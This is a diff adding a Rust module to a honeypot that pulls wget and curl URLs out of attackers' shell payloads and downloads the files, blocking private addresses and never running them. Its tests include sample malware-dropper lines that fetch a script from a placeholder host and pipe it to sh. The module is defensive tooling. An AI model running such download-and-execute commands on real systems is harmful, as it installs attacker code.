@@ -0,0 +1,234 @@
+// Payload fetching at the high interaction level. When an actor tells the
+// shell to download something (`wget http://x/bot.sh`, `curl -O ...`) the URL
+// is fetched for real, as a compromised host would, and the file is kept
+// under its sha256 for analysis. Files are written without execute permission
+// and never run. Size, time and redirects are capped, and only public
+// addresses are fetched, so an actor can't point the honeypot at the cloud
+// metadata service or anything else on the inside.
+use reqwest::header::LOCATION;
+use reqwest::redirect::Policy;
+use reqwest::Url;
+use ring::digest::{digest, SHA256};
+use serde::Deserialize;
+use std::error::Error;
+use std::fs;
+use std::net::{IpAddr, SocketAddr};
+use std::path::Path;
+use std::sync::OnceLock;
+use std::time::Duration;
+use tokio::net::lookup_host;
+use tokio::time::timeout;
+use crate::http_client::{self, HttpConfig};
+use crate::prelude::*;
+
+// Most URLs fetched for one payload.
+const MAX_URLS_PER_PAYLOAD: usize = 4;
+const MAX_REDIRECTS: usize = 3;
+// Programs whose URL arguments are fetched.
+const DOWNLOADERS: &[&str] = &["wget", "curl"];
+
+#[derive(Debug, Deserialize, Clone)]
+pub struct PayloadFetchConfig {
+	#[serde(default = "PayloadFetchConfig::default_enabled")]
+	pub enabled: bool,
+	// Fetched files are kept here, named by their sha256.
+	#[serde(default = "PayloadFetchConfig::default_dir")]
+	pub dir: String,
+	#[serde(default = "PayloadFetchConfig::default_max_bytes")]
+	pub max_bytes: usize,
+	// Whole fetch, redirects included. The actor waits this long at most.
+	#[serde(default = "PayloadFetchConfig::default_timeout_secs")]
+	pub timeout_secs: u64,
+}
+
+impl PayloadFetchConfig {
+	fn default_enabled() -> bool {
+		true
+	}
+
+	fn default_dir() -> String {
+		"./logs/payloads".to_string()
+	}
+
+	fn default_max_bytes() -> usize {
+		16 * 1024 * 1024
+	}
+
+	fn default_timeout_secs() -> u64 {
+		15
+	}
+}
+
+impl Default for PayloadFetchConfig {
+	fn default() -> Self {
+		PayloadFetchConfig {
+			enabled: Self::default_enabled(),
+			dir: Self::default_dir(),
+			max_bytes: Self::default_max_bytes(),
+			timeout_secs: Self::default_timeout_secs(),
+		}
+	}
+}
+
+// A file downloaded on the actor's behalf.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Fetched {
+	pub url: String,
+	pub sha256: String,
+	pub bytes: usize,
+}
+
+struct Fetcher {
+	config: PayloadFetchConfig,
+	http: HttpConfig,
+	// Only ever set by tests, which serve files from loopback.
+	allow_private: bool,
+}
+
+static FETCHER: OnceLock<Fetcher> = OnceLock::new();
+
+// Until installed, nothing is fetched.
+pub fn install(config: &PayloadFetchConfig, http: &HttpConfig) {
+	if config.enabled {
+		let _ = FETCHER.set(Fetcher { config: config.clone(), http: http.clone(), allow_private: false });
+	}
+}
+
+// Fetch every file the payload tells the shell to download.
+pub async fn fetch_all(payload: &str) -> Vec<Fetched> {
+	let Some(fetcher) = FETCHER.get() else {
+		return vec![];
+	};
+	fetcher.fetch_all(payload).await
+}
+
+// The http(s) URLs handed to a downloader in a shell payload.
+fn download_urls(payload: &str) -> Vec<String> {
+	let mut urls: Vec<String> = payload
+		.split(['\n', ';', '|', '&'])
+		.filter_map(|command| {
+			let mut words = command.split_whitespace().map(|w| w.trim_matches(['"', '\'']));
+			let mut program = words.next()?;
+			if program.rsplit('/').next() == Some("busybox") {
+				program = words.next()?;
+			}
+			DOWNLOADERS.contains(&program.rsplit('/').next()?).then_some(words)
+		})
+		.flatten()
+		.filter(|word| word.starts_with("http://") || word.starts_with("https://"))
+		.map(str::to_string)
+		.collect();
+	urls.dedup();
+	urls.truncate(MAX_URLS_PER_PAYLOAD);
+	urls
+}
+
+// Addresses a request from the honeypot may go to.
+fn is_public(ip: IpAddr) -> bool {
+	match ip.to_canonical() {
+		IpAddr::V4(ip) => {
+			let shared = ip.octets()[0] == 100 && (ip.octets()[1] & 0xc0) == 64;
+			!(ip.is_private() || ip.is_loopback() || ip.is_link_local() || ip.is_unspecified() || ip.is_broadcast() || ip.is_documentation() || ip.is_multicast() || shared)
+		}
+		IpAddr::V6(ip) => {
+			let unique_local = (ip.segments()[0] & 0xfe00) == 0xfc00;
+			let link_local = (ip.segments()[0] & 0xffc0) == 0xfe80;
+			!(ip.is_loopback() || ip.is_unspecified() || ip.is_multicast() || unique_local || link_local)
+		}
+	}
+}
+
+impl Fetcher {
+	async fn fetch_all(&self, payload: &str) -> Vec<Fetched> {
+		let mut fetched = vec![];
+		for url in download_urls(payload) {
+			match timeout(Duration::from_secs(self.config.timeout_secs), self.fetch(&url)).await {
+				Ok(Ok(file)) => {
+					info!("Fetched {} ({} bytes, sha256 {}) for an actor", file.url, file.bytes, file.sha256);
+					fetched.push(file);
+				}
+				Ok(Err(e)) => warn!("Failed to fetch {} for an actor: {}", url, e),
+				Err(_) => warn!("Fetching {} for an actor timed out", url),
+			}
+		}
+		fetched
+	}
+
+	async fn fetch(&self, url: &str) -> Result<Fetched, Box<dyn Error + Send + Sync>> {
+		let mut target = Url::parse(url)?;
+		for _ in 0..=MAX_REDIRECTS {
+			// Resolved once and pinned, so the name can't be rebound to an inside address
+			let host = target.host_str().ok_or("no host")?.to_string();
+			let port = target.port_or_known_default().ok_or("no port")?;
+			let addr: SocketAddr = lookup_host((host.trim_matches(['[', ']']), port)).await?.next().ok_or("the host did not resolve")?;
+			if !self.allow_private && !is_public(addr.ip()) {
+				return Err(format!("{} resolves to {}, which is not public", host, addr.ip()).into());
+			}
+			let client = http_client::builder(&self.http)?.redirect(Policy::none()).resolve(&host, addr).build()?;
+			let response = client.get(target.clone()).send().await?;
+			if response.status().is_redirection() {
+				let location = response.headers().get(LOCATION).ok_or("redirect without a location")?.to_str()?;
+				target = target.join(location)?;
+				continue;
+			}
+			let body = http_client::read_body(response.error_for_status()?, self.config.max_bytes).await?;
+			let sha256: String = digest(&SHA256, &body).as_ref().iter().map(|b| format!("{:02x}", b)).collect();
+			let path = Path::new(&self.config.dir).join(&sha256);
+			if !path.exists() {
+				fs::create_dir_all(&self.config.dir)?;
+				fs::write(&path, &body)?;
+			}
+			return Ok(Fetched { url: url.to_string(), sha256, bytes: body.len() });
+		}
+		Err(format!("more than {} redirects", MAX_REDIRECTS).into())
+	}
+}
+
+#[cfg(test)]
+mod tests {
+	use super::*;
+	use crate::mock_http::{MockHttpServer, MockResponse};
+
+	#[test]
+	fn urls_are_taken_from_download_commands() {
+		let payload = "cd /tmp; wget http://203.0.113.5/bot.sh -O- | sh; /bin/busybox curl -O 'https://x.example/a.arm7'\necho http://not.fetched/";
+		assert_eq!(download_urls(payload), ["http://203.0.113.5/bot.sh", "https://x.example/a.arm7"]);
+		assert!(download_urls("GET http://example.com/ HTTP/1.1\r\n").is_empty());
+	}
+
+	#[test]
+	fn only_public_addresses_are_fetched() {
+		for private in ["127.0.0.1", "10.1.2.3", "169.254.169.254", "100.64.0.1", "::1", "fd00::1", "::ffff:192.168.1.1"] {
+			assert!(!is_public(private.parse().unwrap()), "{}", private);
+		}
+		assert!(is_public("203.0.114.1".parse().unwrap()));
+		assert!(is_public("2a00:1450::1".parse().unwrap()));
+	}
+
+	#[tokio::test]
+	async fn files_are_kept_under_their_sha256() {
+		let dir = std::env::temp_dir().join(format!("rustbucket-payloads-{}", std::process::id()));
+		let config = PayloadFetchConfig { dir: dir.to_string_lossy().to_string(), max_bytes: 64, ..PayloadFetchConfig::default() };
+		let server = MockHttpServer::start().await;
+		let url = format!("{}/bot.sh", server.base_url());
+		let fetcher = Fetcher { config: config.clone(), http: HttpConfig::default(), allow_private: false };
+
+		// Loopback is refused before any request is made
+		assert!(fetcher.fetch_all(&format!("wget {}", url)).await.is_empty());
+		assert!(server.requests().is_empty());
+
+		let fetcher = Fetcher { allow_private: true, ..fetcher };
+		server.respond_with(MockResponse::new(302, "").with_header("Location", "/bot2.sh"));
+		server.respond_with(MockResponse::new(200, "#!/bin/sh\necho pwned\n"));
+		let fetched = fetcher.fetch_all(&format!("wget {} -O- | sh", url)).await;
+		assert_eq!(fetched.len(), 1);
+		assert_eq!((fetched[0].url.as_str(), fetched[0].bytes), (url.as_str(), 21));
+		assert_eq!(fs::read_to_string(dir.join(&fetched[0].sha256)).unwrap(), "#!/bin/sh\necho pwned\n");
+		assert_eq!(server.requests()[1].path, "/bot2.sh");
+
+		// Larger than max_bytes
+		server.respond_with(MockResponse::new(200, &"A".repeat(100)));
+		assert!(fetcher.fetch_all(&format!("curl {}", url)).await.is_empty());
+		fs::remove_dir_all(&dir).unwrap();
+	}
+}